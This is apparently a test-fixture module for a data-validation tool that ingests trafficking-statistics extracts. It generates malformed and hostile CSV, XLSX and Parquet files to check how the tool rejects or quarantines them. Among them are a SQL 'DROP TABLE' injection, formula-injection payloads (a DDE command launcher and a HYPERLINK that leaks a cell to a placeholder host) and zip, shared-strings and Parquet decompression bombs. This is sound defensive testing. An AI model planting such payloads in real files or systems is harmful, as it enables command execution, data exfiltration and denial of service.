"""The table of bad and hostile inputs: each one a valid synthetic extract, damaged in one known way.

Every case names the exact outcome of `rapporteur validate` (exit code, a regex for the one line on
stderr when the file is unusable) and the rows accounted (rows in, rows quarantined). `ingest` and
`run` must agree with it: exit 2 is a rejected submission, otherwise rows_in = loaded + quarantined.
"""

from __future__ import annotations

import csv
import io
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq

VA, LE = "victim-assistance", "law-enforcement"
BASE_ROWS = {VA: 20, LE: 12}
PROVIDER = {VA: "ngo-harbour", LE: "police-central"}
SQL_INJECTION = "Robert'); DROP TABLE submissions; --"
FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]
CANARY = "Zqcanaryvalue"  # a cell value that must never reach stderr, logs or the bureau's files


@dataclass(frozen=True)
class Base:
    """A clean extract of one feed: every row valid under the provider's mapping."""

    feed: str
    header: list[str]
    rows: list[dict[str, str]]

    def copy_rows(self) -> list[dict[str, str]]:
        return [dict(r) for r in self.rows]


def load_bases(sample_dir: Path) -> dict[str, Base]:
    """The first valid rows of one provider per feed, from the generator's extract and its ground truth."""
    with (sample_dir / "ground_truth" / "records.csv").open(newline="", encoding="utf-8") as f:
        valid = {(r["feed"], r["provider_record_id"]) for r in csv.DictReader(f) if r["valid"] == "1"}
    bases = {}
    for feed, provider in PROVIDER.items():
        with (sample_dir / f"{feed}__{provider}.csv").open(newline="", encoding="utf-8") as f:
            reader = csv.DictReader(f)
            rows = [r for r in reader if (feed, r["provider_record_id"]) in valid][: BASE_ROWS[feed]]
            bases[feed] = Base(feed, list(reader.fieldnames or []), rows)
    return bases


def csv_text(header: list[str], rows: list[dict[str, str]] | list[list[str]], delimiter: str = ",") -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\n")
    writer.writerow(header)
    for r in rows:
        writer.writerow([r.get(h, "") for h in header] if isinstance(r, dict) else r)
    return out.getvalue()


def xlsx_bytes(sheets: dict[str, list[list[object]]], merge: str | None = None, formula: bool = False) -> bytes:
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for r in rows:
            sheet.append(r)
        if merge:
            sheet.merge_cells(merge)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@dataclass(frozen=True)
class Case:
    """One damaged input and what must become of it."""

    name: str
    feed: str
    build: Callable[[Base], tuple[bytes, str]]  # -> (content, file suffix)
    exit: int  # of `rapporteur validate`
    says: str | None = None  # regex for the one stderr line (exit 2) or a stdout line (exit 0/1)
    quarantined: int = 0
    rules: frozenset[str] = field(default_factory=frozenset)  # rules that must be among the failures (exit 1)
    rows_in: int | None = None  # default: the base's rows
    source: str | None = None  # build from the other feed's base (default: this case's feed)

    def expected_rows_in(self) -> int:
        return BASE_ROWS[self.feed] if self.rows_in is None else self.rows_in


def _text(base: Base, encoding: str = "utf-8", delimiter: str = ",") -> tuple[bytes, str]:
    return csv_text(base.header, base.rows, delimiter).encode(encoding), ".csv"


def _rows_changed(change: Callable[[list[dict[str, str]]], None], **kw) -> Callable[[Base], tuple[bytes, str]]:
    def build(base: Base) -> tuple[bytes, str]:
        rows = base.copy_rows()
        change(rows)
        return csv_text(base.header, rows, **kw).encode(), ".csv"

    return build


def _set(column: str, values: list[str]) -> Callable[[list[dict[str, str]]], None]:
    def change(rows: list[dict[str, str]]) -> None:
        for row, value in zip(rows, values, strict=False):
            row[column] = value

    return change


def _bytes(make: Callable[[Base], bytes], suffix: str = ".csv") -> Callable[[Base], tuple[bytes, str]]:
    return lambda base: (make(base), suffix)


def _truncated(base: Base) -> bytes:
    data = csv_text(base.header, base.rows).encode()
    return data[: data.rstrip(b"\n").rfind(b",", 0, len(data) - 40)]  # cut inside the last row


def _unbalanced(base: Base) -> bytes:
    rows = base.copy_rows()
    text = csv_text(base.header, rows)
    lines = text.splitlines(keepends=True)
    lines[5] = lines[5].replace(",", ',"', 1)  # an opening quote that is never closed
    return "".join(lines).encode()


def _mixed_encodings(base: Base) -> bytes:
    rows = base.copy_rows()
    rows[0]["given_name"], rows[1]["given_name"] = "Zoë", "Zoë"
    lines = csv_text(base.header, rows).splitlines(keepends=True)
    lines[2] = lines[2].encode("cp1252").decode("utf-8", errors="surrogateescape")  # row 2 in cp1252
    return "".join(lines).encode("utf-8", errors="surrogateescape")


def _mixed_late(base: Base) -> bytes:
    """UTF-8 for the first 300 KB (the part whose encoding is detected), then one row in cp1252."""
    text = csv_text(base.header, base.rows)
    body = text.split("\n", 1)[1] * (300_000 // len(text) + 1)
    late = csv_text(base.header, [dict(base.rows[0], given_name="Zoë", provider_record_id="late-1")])
    return (text + body).encode() + late.split("\n", 1)[1].encode("cp1252")


def _short_row_in_legacy_encoding(base: Base) -> bytes:
    """After the first 256 KB, a row with two fields in cp1252: pyarrow cannot even decode the bad row."""
    text = csv_text(base.header, base.rows)
    body = text.split("\n", 1)[1] * (300_000 // len(text) + 1)
    return (text + body).encode() + "Zoë,Zoë\n".encode("cp1252")


def _header_change(change: Callable[[list[str]], list[str]]) -> Callable[[Base], tuple[bytes, str]]:
    def build(base: Base) -> tuple[bytes, str]:
        header = change(list(base.header))
        rows = [[r[h] for h in base.header] for r in base.rows]
        return csv_text(header, rows).encode(), ".csv"

    return build


def _drop_column(name: str) -> Callable[[Base], tuple[bytes, str]]:
    def build(base: Base) -> tuple[bytes, str]:
        header = [h for h in base.header if h != name]
        return csv_text(header, base.rows).encode(), ".csv"

    return build


def _extra_columns(base: Base) -> tuple[bytes, str]:
    header = [*base.header, "notes", "caseworker"]
    rows = [{**r, "notes": f"{CANARY} free text", "caseworker": "X"} for r in base.rows]
    return csv_text(header, rows).encode(), ".csv"


def _as_xlsx(base: Base, **kw) -> list[list[object]]:
    return [base.header, *([r[h] for h in base.header] for r in base.rows)]


def _xlsx_formulas(base: Base) -> tuple[bytes, str]:
    rows = _as_xlsx(base)
    sex = base.header.index("sex")
    rows[1][sex] = '=IF(1=1,"F","M")'  # no cached value: what the exporting program computed is unknown
    rows[2][base.header.index("given_name")] = "=1+1"
    return xlsx_bytes({"extract": rows}), ".xlsx"


def _xlsx_sheets(base: Base) -> tuple[bytes, str]:
    other = [["note"], ["this sheet is not the extract"]]
    return xlsx_bytes({"extract": _as_xlsx(base), "notes": other, "pivot": other}), ".xlsx"


def _xlsx_merged(base: Base) -> tuple[bytes, str]:
    sex = base.header.index("sex")
    column = chr(ord("A") + sex)
    return xlsx_bytes({"extract": _as_xlsx(base)}, merge=f"{column}2:{column}4"), ".xlsx"


def _zip_bomb(base: Base) -> tuple[bytes, str]:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
            block = b"\0" * (1 << 20)
            for _ in range(600):  # 600 MB unpacked, under 1 MB packed
                f.write(block)
    return out.getvalue(), ".xlsx"


SST = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"


def shared_strings_bomb(rows: list[list[object]], megabytes: int = 100) -> bytes:
    """A real workbook given a shared-strings part of `megabytes` MB of one repeated string (what Excel would
    read before the first row)."""
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes({"extract": rows})))
    pad = b"<si><t>" + b"A" * 90 + b"</t></si>"
    count = megabytes * (1 << 20) // len(pad)
    strings = f'<sst xmlns="{SST}" count="{count}" uniqueCount="{count}">'.encode() + pad * count + b"</sst>"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "[Content_Types].xml":
                data = data.replace(
                    b"</Types>",
                    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                    b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
                )
            if item.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(
                    b"</Relationships>",
                    f'<Relationship Id="rIdS" Type="{RELS}" Target="sharedStrings.xml"/></Relationships>'.encode(),
                )
            z.writestr(item, data)
        z.writestr("xl/sharedStrings.xml", strings)
    return out.getvalue()


def _parquet_bomb(base: Base) -> tuple[bytes, str]:
    """Every column one repeated value: some 100 KB that read as 2 million rows."""
    repeated = pa.DictionaryArray.from_arrays(pa.array(bytes(2_000_000), pa.int8()).cast(pa.int32()), pa.array(["x"]))
    out = io.BytesIO()
    pq.write_table(pa.table({h: repeated for h in base.header}), out, compression="zstd")
    return out.getvalue(), ".parquet"


def _xlsx_cover(base: Base) -> tuple[bytes, str]:
    cover = [["Extract for the national rapporteur"], ["prepared by", "the data officer"]]
    return xlsx_bytes({"cover": cover, "extract": _as_xlsx(base)}), ".xlsx"


def _xlsx_two_extracts(base: Base) -> tuple[bytes, str]:
    rows = _as_xlsx(base)
    return xlsx_bytes({"cover": [["notes"]], "first": rows, "second": rows[:5]}), ".xlsx"


def _zip_not_xlsx(base: Base) -> tuple[bytes, str]:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("extract.csv", csv_text(base.header, base.rows))
    return out.getvalue(), ".xlsx"


def _parquet(base: Base, damage: bool = False) -> tuple[bytes, str]:
    table = pa.table({h: [r[h] for r in base.rows] for h in base.header})
    out = io.BytesIO()
    pq.write_table(table, out)
    data = out.getvalue()
    return (data[: len(data) // 2] + data[-8:] if damage else data), ".parquet"


def _enormous(column: str, size: int) -> Callable[[Base], tuple[bytes, str]]:
    return _rows_changed(_set(column, [CANARY + "x" * size]))


def _sql_everywhere(rows: list[dict[str, str]]) -> None:
    for i, row in enumerate(rows):
        for col in ("given_name", "family_name", "document_number", "phone", "address"):
            row[col] = f"{SQL_INJECTION} {i}"
        row["provider_record_id"] = f"{SQL_INJECTION}{i}"


def _date_formats(rows: list[dict[str, str]]) -> None:
    for i, row in enumerate(rows):
        d, m, y = row["identification_date"].split("/")
        row["identification_date"] = [f"{y}-{m}-{d}", f"{d}/{m}/{y}", f"{d}.{m}.{y}", f"{y}/{m}/{d}"][i % 4]


def _random_bytes(base: Base) -> bytes:
    return random.Random(9).randbytes(50_000)


def _utf16_no_bom(base: Base) -> bytes:
    return csv_text(base.header, base.rows).encode("utf-16-le")


def _line_endings(ending: str) -> Callable[[Base], bytes]:
    return lambda base: csv_text(base.header, base.rows).replace("\n", ending).encode()


def _blank_lines(base: Base) -> bytes:
    lines = csv_text(base.header, base.rows).splitlines(keepends=True)
    return "".join(lines[:5] + ["\n", "\n"] + lines[5:] + ["\n\n\n"]).encode()


def _delimiter_only_row(base: Base) -> bytes:
    return (csv_text(base.header, base.rows) + "," * (len(base.header) - 1) + "\n").encode()


def _too_many_fields(base: Base) -> bytes:
    lines = csv_text(base.header, base.rows).splitlines(keepends=True)
    lines[3] = lines[3].rstrip("\n") + ",surplus\n"
    return "".join(lines).encode()


def _nul_in_cell(base: Base) -> bytes:
    return csv_text(base.header, base.rows).replace("Y", "\x00", 1).encode()


def _quoted_newlines(rows: list[dict[str, str]]) -> None:
    for row in rows[:5]:
        row["address"] = "12 Long Street\nFlat 3\r\nNorth"


def _duplicated_row(rows: list[dict[str, str]]) -> None:
    rows.append(dict(rows[4]))


CASES: list[Case] = [
    # Whole files that cannot be used: rejected with one line, nothing loaded.
    Case("empty file", VA, _bytes(lambda b: b""), 2, r"the file is empty"),
    Case("whitespace only", VA, _bytes(lambda b: b"\n \r\n\t\n"), 2, r"the file is empty"),
    Case("header only", VA, _bytes(lambda b: (",".join(b.header) + "\n").encode()), 2, r"header but no data rows"),
    Case("binary garbage", VA, _bytes(_random_bytes), 2, r"not a text file"),
    Case("NUL byte in a cell", VA, _bytes(_nul_in_cell), 2, r"not a text file"),
    Case("truncated last row", VA, _bytes(_truncated), 2, r"do not have 23 fields .*truncated"),
    Case("unbalanced quotes", VA, _bytes(_unbalanced), 2, r"unbalanced quotes"),
    Case("a row with an extra field", VA, _bytes(_too_many_fields), 2, r"1 row\(s\) do not have 23 fields"),
    Case("wrong delimiter (colon)", VA, lambda b: _text(b, delimiter=":"), 2, r"only one column found"),
    Case("mixed encodings", VA, _bytes(_mixed_encodings), 2, r"mixes text encodings"),
    Case("mixed encodings after the first 256 KB", VA, _bytes(_mixed_late), 2, r"mixes text encodings"),
    Case(
        "a short row in another encoding, late",
        VA,
        _bytes(_short_row_in_legacy_encoding),
        2,
        r"1 row\(s\) do not have 23 fields",
    ),
    Case("duplicate header names", VA, _header_change(lambda h: [*h[:2], h[1], *h[3:]]), 2, r"names column .* twice"),
    Case("blank header name", VA, _header_change(lambda h: [*h[:3], "", *h[4:]]), 2, r"column 4 .* has no name"),
    Case(
        "trailing delimiter on every line",
        VA,
        _bytes(lambda b: csv_text(b.header, b.rows).replace("\n", ",\n").encode()),
        2,
        r"column 24 .* has no name",
    ),
    Case("missing required column", VA, _drop_column("sex"), 2, r"required column\(s\) missing .*: sex"),
    Case("the other feed's file", VA, _text, 2, r"required column\(s\) missing", source=LE),
    Case("zip bomb disguised as XLSX", VA, _zip_bomb, 2, r"unpacks to \d+ MB"),
    Case("a zip that is not XLSX", VA, _zip_not_xlsx, 2, r"not a readable XLSX"),
    Case("damaged XLSX", VA, lambda b: (xlsx_bytes({"x": _as_xlsx(b)})[:900], ".xlsx"), 2, r"XLSX file is damaged"),
    Case("damaged Parquet", VA, lambda b: _parquet(b, damage=True), 2, r"Parquet file is damaged"),
    Case("enormous field (20 MB in a name)", VA, _enormous("given_name", 20 << 20), 2, r"a row is larger than 8 MB"),
    # Files that are read: every row loaded or quarantined.
    Case("semicolon delimiter", VA, lambda b: _text(b, delimiter=";"), 0),
    Case("tab delimiter", VA, lambda b: _text(b, delimiter="\t"), 0),
    Case("pipe delimiter", VA, lambda b: _text(b, delimiter="|"), 0),
    Case("UTF-8 byte-order mark", VA, lambda b: _text(b, "utf-8-sig"), 0),
    Case("UTF-16 with BOM", VA, lambda b: _text(b, "utf-16"), 0),
    Case(
        "UTF-16 big-endian with BOM",
        VA,
        lambda b: (b"\xfe\xff" + csv_text(b.header, b.rows).encode("utf-16-be"), ".csv"),
        0,
    ),
    Case("UTF-16 without BOM", VA, _bytes(_utf16_no_bom), 0),
    Case("cp1252", VA, lambda b: _text(b, "cp1252"), 0),
    Case("CRLF line endings", VA, _bytes(_line_endings("\r\n")), 0),
    Case("blank lines inside and at the end", VA, _bytes(_blank_lines), 0),
    Case("quoted newlines inside cells", VA, _rows_changed(_quoted_newlines), 0),
    Case(
        "header in other case and spacing",
        VA,
        _header_change(lambda h: [f"  {c.upper().replace('_', ' ')} " for c in h]),
        0,
    ),
    Case(
        "extra columns",
        VA,
        _extra_columns,
        0,
        r"dropped 2 column\(s\) not in the standard: 'notes' \(column 24\), 'caseworker' \(column 25\)",
    ),
    Case("missing optional columns", VA, _drop_column("means_of_control"), 0),
    Case("enormous field (2 MB in a name)", VA, _enormous("given_name", 2 << 20), 0),
    Case(
        "enormous field (2 MB in a code)",
        VA,
        _enormous("sex", 2 << 20),
        1,
        quarantined=1,
        rules=frozenset({"unmapped_code"}),
    ),
    Case("XLSX", VA, lambda b: (xlsx_bytes({"extract": _as_xlsx(b)}), ".xlsx"), 0),
    Case("XLSX with several sheets", VA, _xlsx_sheets, 0),
    Case("XLSX with formulas", VA, _xlsx_formulas, 1, quarantined=1, rules=frozenset({"required"})),
    Case("XLSX with merged cells", VA, _xlsx_merged, 1, quarantined=2, rules=frozenset({"required"})),
    Case("Parquet", VA, _parquet, 0),
    Case("dates in every accepted format", VA, _rows_changed(_date_formats), 0),
    Case(
        "dates in unaccepted formats",
        VA,
        _rows_changed(_set("identification_date", ["2015-13-01", "March 5 2015", "20150305", "5/3/15", "05/03/0015"])),
        1,
        quarantined=5,
        rules=frozenset({"invalid_date"}),
    ),
    Case(
        "impossible dates",
        VA,
        _rows_changed(_set("date_of_birth", ["30/02/1990", "31/04/1985", "00/01/1990", "29/02/2001"])),
        1,
        quarantined=4,
        rules=frozenset({"invalid_date"}),
    ),
    Case(
        "future dates",
        VA,
        _rows_changed(_set("identification_date", ["01/01/2999"])),
        1,
        quarantined=1,
        rules=frozenset({"future_date"}),
    ),
    Case(
        "negative age (born after identification)",
        VA,
        _rows_changed(_set("date_of_birth", ["01/01/2030", "01/01/2026"])),
        1,
        quarantined=2,
        rules=frozenset({"birth_after_event"}),
    ),
    Case(
        "absurd age (born 1800)",
        VA,
        _rows_changed(_set("date_of_birth", ["01/01/1800", "01/01/1850"])),
        1,
        quarantined=2,
        rules=frozenset({"implausible_age"}),
    ),
    Case(
        "unknown codes",
        VA,
        _rows_changed(_set("sex", ["X9", CANARY, "femme"])),
        1,
        quarantined=3,
        rules=frozenset({"unmapped_code"}),
    ),
    Case(
        "blank required cells",
        VA,
        _rows_changed(_set("citizenship", ["", "  "])),
        1,
        quarantined=2,
        rules=frozenset({"required"}),
    ),
    Case("a row of delimiters only", VA, _bytes(_delimiter_only_row), 1, quarantined=1, rows_in=21),
    Case(
        "duplicated row",
        VA,
        _rows_changed(_duplicated_row),
        1,
        quarantined=1,
        rules=frozenset({"duplicate_record_id"}),
        rows_in=21,
    ),
    Case("SQL injection in every text column", VA, _rows_changed(_sql_everywhere), 0),
    Case(
        "SQL injection in a code column",
        VA,
        _rows_changed(_set("sex", [SQL_INJECTION])),
        1,
        quarantined=1,
        rules=frozenset({"unmapped_code"}),
    ),
    Case(
        "formula injection in code columns",
        VA,
        _rows_changed(_set("sex", FORMULAS)),
        1,
        quarantined=4,
        rules=frozenset({"unmapped_code"}),
    ),
    Case("formula injection in text columns", VA, _rows_changed(_set("given_name", FORMULAS)), 0),
    Case(
        "negative sentence",
        LE,
        _rows_changed(_set("sentence_months", ["-5"])),
        1,
        quarantined=1,
        rules=frozenset({"implausible_sentence"}),
    ),
    Case(
        "absurd sentence",
        LE,
        _rows_changed(_set("sentence_months", ["99999"])),
        1,
        quarantined=1,
        rules=frozenset({"implausible_sentence"}),
    ),
    Case(
        "sentence that is not a number",
        LE,
        _rows_changed(_set("sentence_months", ["ten years"])),
        1,
        quarantined=1,
        rules=frozenset({"invalid_integer"}),
    ),
    Case(
        "stage dates out of order",
        LE,
        _rows_changed(_set("investigation_date", ["01.01.2024"] * 12)),
        1,
        quarantined=7,
        rules=frozenset({"stage_dates_out_of_order"}),
    ),
    Case("XLSX whose first sheet is a cover page", VA, _xlsx_cover, 0, r"read the sheet 'extract'"),
    Case(
        "XLSX with two data sheets",
        VA,
        _xlsx_two_extracts,
        2,
        r"the sheets 'first', 'second' all hold an extract: choose one with --sheet NAME",
    ),
    Case(
        "shared strings bomb (100 MB in 350 KB)",
        VA,
        lambda b: (shared_strings_bomb(_as_xlsx(b)), ".xlsx"),
        2,
        "zip bomb",
    ),
    Case("Parquet decompression bomb", VA, _parquet_bomb, 2, r"declares 2,000,000 rows .* decompression bomb"),
    Case(
        "renamed column (nationality for citizenship)",
        VA,
        _header_change(lambda h: ["nationality" if c == "citizenship" else c for c in h]),
        2,
        r"missing .*: citizenship; not recognised: 'nationality' \(column \d+; did you mean citizenship\?\)",
    ),
]
